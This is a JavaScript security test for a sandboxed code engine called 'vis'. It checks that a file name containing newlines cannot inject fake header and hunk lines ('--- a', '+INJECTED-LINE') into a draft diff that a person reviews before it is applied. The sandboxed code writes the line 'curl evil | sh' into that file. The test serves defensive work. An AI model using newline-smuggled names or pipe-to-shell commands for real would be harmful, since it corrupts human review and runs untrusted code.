// ATTACK (surface 2, drafts): a draft's diff is what a person reviews before `apply` lands it
// (README: "a person reviews the diff before anything lands"; `vis sessions export` includes it,
// "a diff git apply accepts"). File names come from the sandbox and are printed raw into the
// diff's header lines: a name with newlines injects whole lines of the block's choosing (here a
// fake "new file mode", "--- a" and a fake hunk line), so the review shows headers and changes
// that do not exist and the diff no longer says which file is which. git itself C-quotes such
// names ("a/run.sh\nnew file..." in double quotes). On the current code the injected lines appear
// verbatim as lines of the diff.
import assert from 'node:assert/strict'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, test } from 'node:test'
import { createEngine } from '../../src/engine/index.js'

const home = mkdtempSync(join(tmpdir(), 'vis-attack-diffname-home-'))
const root = mkdtempSync(join(tmpdir(), 'vis-attack-diffname-root-'))
after(() => {
  rmSync(home, { recursive: true, force: true })
  rmSync(root, { recursive: true, force: true })
})

test('a file name with newlines cannot inject lines into the draft diff', async () => {
  writeFileSync(join(root, 'a.txt'), 'hello\n')
  const e = await createEngine({
    home,
    python: process.env.VIS_PYTHON_VERSION,
    pool: { size: 0 },
    extensions: false,
  })
  try {
    const s = await e.createSession({ roots: [root] })
    const d = e.draft(s.id)
    await d.create('review me')
    const name = 'run.sh\\nnew file mode 100644\\n--- a\\n+INJECTED-LINE'
    const r = await e.runBlock(s.id, {
      code: `open("${name}", "w").write("curl evil | sh\\n")\nprint('ok')`,
      timeout_ms: 20_000,
    })
    assert.equal(r.block.stdout, 'ok\n', JSON.stringify(r.block.error))
    const diff = String(await d.diff())
    const lines = diff.split('\n')
    assert.ok(
      !lines.includes('+INJECTED-LINE') && !lines.includes('--- a'),
      `a file name injected raw lines into the diff under review:\n${diff}`,
    )
  } finally {
    await e.close()
  }
})
